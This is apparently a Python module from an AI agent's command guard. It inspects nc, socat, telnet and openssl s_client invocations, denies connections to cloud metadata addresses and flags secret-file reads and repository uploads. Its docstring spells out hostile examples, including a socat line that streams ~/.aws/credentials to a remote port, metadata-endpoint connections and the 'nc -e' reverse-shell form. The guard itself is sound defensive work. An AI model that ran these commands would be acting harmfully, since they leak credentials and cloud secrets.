"""Raw network clients: nc, ncat, netcat, socat, telnet, `openssl s_client`.

curl's URLs are judged by urls.py; these clients open a TCP connection to a host and port
and send whatever they are given, so two things are judged here. The host: a cloud
metadata address in any spelling (`nc 169.254.169.254 80` fed an HTTP request, `socat -
TCP:0xa9fea9fe:80`, `telnet metadata.google.internal 80`) is denied as `fetch`, as curl
to it is (other private and loopback addresses pass: `nc -zv localhost 5432` is a port
check). And socat's file addresses: `socat -u FILE:$HOME/.aws/credentials TCP:h:9000`
reads the file (`FILE:`, `OPEN:`, `GOPEN:`, a bare path) as `cat` would, so a secret file
is a secret read, and a repository archive made earlier on the line is an upload of it
(repoexport); `CREATE:` and `OPEN:…,creat|append|trunc` write it. A program on the
connection (`nc -e`, `EXEC:`) is revshell's."""

from __future__ import annotations

from agentops_os.guard.verdict import Verdict, worst

TYPE_CHECKING = False  # typing stays off the hook path
if TYPE_CHECKING:
    from agentops_os.guard.scope import Scope
    from agentops_os.guard.shell import Word
    from agentops_os.guard.unwrap import Call

_SOCAT_NET = ("tcp", "tcp4", "tcp6", "tcp-connect", "tcp4-connect", "tcp6-connect", "udp", "udp4", "udp6",
              "udp-connect", "udp-sendto", "openssl", "openssl-connect", "sctp", "sctp-connect", "socks4",
              "socks4a", "socks5", "socks", "proxy", "proxy-connect", "dccp-connect")
_SOCAT_FILES = ("file", "open", "gopen", "create", "pipe")
_SOCAT_WRITES = ("creat", "append", "trunc", "o-creat", "o-append", "o-trunc", "wronly")


def raw_client(judge: Scope, call: Call) -> Verdict | None:
    if call.name == "socat":
        return _socat(judge, call)
    if call.name == "openssl":
        return _s_client(judge, call)
    # every operand is tried as the host: a port (`80`) or an option's value never reads as
    # a metadata address, so the options need not be told apart
    for word in call.argv:
        verdict = None if word.startswith("-") else _metadata(judge, call.name, word)
        if verdict is not None:
            return verdict
    return None


def _metadata(judge: Scope, program: str, host: str) -> Verdict | None:
    from agentops_os.guard.urls import metadata_host

    shown = metadata_host(judge, host.strip("[]"))
    if shown is None:
        return None
    reason = f"{program} connects to {shown}, a cloud metadata address (guard.fetch_deny_hosts)"
    return judge.verdict("fetch", "deny", reason)


def _s_client(judge: Scope, call: Call) -> Verdict | None:
    """`openssl s_client -connect HOST:PORT`."""
    args = call.argv
    if args[:1] != ["s_client"]:
        return None
    for k, arg in enumerate(args):
        if arg in ("-connect", "-host") and k + 1 < len(args):
            target = args[k + 1]
            host = target.rsplit(":", 1)[0] if target.count(":") == 1 or target.startswith("[") else target
            verdict = _metadata(judge, "openssl s_client", host)
            if verdict is not None:
                return verdict
    return None


def _socat(judge: Scope, call: Call) -> Verdict | None:
    addresses = [w for w in call.args if not w.text.startswith("-") or w.text == "-"]
    kinds = [_kind(w.text) for w in addresses]
    networked = any(k in _SOCAT_NET for k in kinds)
    verdicts: list[Verdict | None] = []
    for word, kind in zip(addresses, kinds, strict=True):
        body = word.text.split(":", 1)[1] if ":" in word.text and kind else word.text
        if kind in _SOCAT_NET:
            for piece in body.split(",", 1)[0].split(":"):
                verdicts.append(_metadata(judge, "socat", piece))
        elif kind in _SOCAT_FILES or (not kind and "/" in word.text):
            verdicts.append(_socat_file(judge, word, kind, body, networked))
    return worst(verdicts)


def _kind(text: str) -> str:
    """An address's type (`tcp` of `TCP:h:80`, `file` of `FILE:x,ignoreeof`); '' for a
    bare path or `-`."""
    head = text.split(":", 1)[0] if ":" in text else ""
    head = head.split(",", 1)[0].lower()
    return "" if "/" in head else head


def _socat_file(judge: Scope, word: Word, kind: str, body: str, networked: bool) -> Verdict | None:
    path_text, _, options = body.partition(",")
    path = judge.resolve(path_text, dynamic=word.dynamic, quoted=word.quoted)
    if path is None:
        return None
    verdicts = [judge.judge_read(path, "socat reads")]
    if kind == "create" or any(o.strip().lower() in _SOCAT_WRITES for o in options.split(",")):
        verdicts.append(judge.judge_write(path, "socat writes"))
    if networked and "repo-archives" in judge.git_line:
        from agentops_os.guard.repoexport import sends_archive

        verdicts.append(sends_archive(judge, "socat", path))
    return worst(verdicts)


RULES = {name: raw_client for name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat",
                                       "telnet", "openssl")}
